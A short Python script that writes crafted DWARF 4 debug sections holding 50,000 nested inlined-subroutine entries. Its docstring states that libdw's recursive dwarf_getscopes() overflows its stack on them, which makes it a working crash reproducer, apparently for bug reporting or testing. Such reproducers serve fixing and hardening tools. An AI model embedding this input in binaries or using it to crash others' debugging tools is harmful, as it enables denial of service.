#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""deep-dwarf.py DIR ADDR SIZE [DEPTH]: DWARF 4 sections whose scopes nest DEPTH deep.

Writes DIR/debug_info, DIR/debug_abbrev and DIR/debug_aranges (for objcopy --add-section): one
compile unit covering [ADDR, ADDR + SIZE) (both hex, as `nm -S` prints them), a DW_TAG_subprogram there,
and inside it DEPTH (default 50000) DW_TAG_inlined_subroutine entries each nested in the one
before, all covering the same range, named deep_0 .. deep_{DEPTH-1}. A tool that walks the
scopes of an address in the range by recursion (libdw's dwarf_getscopes()) overflows its stack.
"""
import os
import struct
import sys


def uleb(v):
    out = bytearray()
    while True:
        b = v & 0x7F
        v >>= 7
        out.append(b | (0x80 if v else 0))
        if not v:
            return bytes(out)


def main():
    out, addr, size = sys.argv[1], int(sys.argv[2], 16), int(sys.argv[3], 16)
    depth = int(sys.argv[4]) if len(sys.argv) > 4 else 50000
    DW_CHILDREN_yes = 1
    AT_name, AT_low_pc, AT_high_pc = 0x03, 0x11, 0x12
    FORM_addr, FORM_data8, FORM_string = 0x01, 0x07, 0x08
    attrs = [(AT_name, FORM_string), (AT_low_pc, FORM_addr), (AT_high_pc, FORM_data8)]
    abbrev = bytearray()
    for code, tag in ((1, 0x11), (2, 0x2E), (3, 0x1D)):  # compile_unit, subprogram, inlined
        abbrev += uleb(code) + uleb(tag) + bytes([DW_CHILDREN_yes])
        for at, form in attrs:
            abbrev += uleb(at) + uleb(form)
        abbrev += b"\0\0"
    abbrev += b"\0"

    def die(code, name):
        return uleb(code) + name.encode() + b"\0" + struct.pack("<QQ", addr, size)

    body = bytearray(die(1, "deep.c") + die(2, "deep_fn"))
    for i in range(depth):
        body += die(3, "deep_%d" % i)
    body += b"\0" * (depth + 2)  # the end of each children list: the innermost's, up to the CU's
    hdr = struct.pack("<HIB", 4, 0, 8)
    info = struct.pack("<I", len(hdr) + len(body)) + hdr + body
    tuples = struct.pack("<QQQQ", addr, size, 0, 0)
    ahdr = struct.pack("<HIBB", 2, 0, 8, 0) + b"\0" * 4  # tuples aligned to 16 bytes
    aranges = struct.pack("<I", len(ahdr) + len(tuples)) + ahdr + tuples
    for name, data in (("debug_info", info), ("debug_abbrev", abbrev), ("debug_aranges", aranges)):
        with open(os.path.join(out, name), "wb") as f:
            f.write(data)


main()
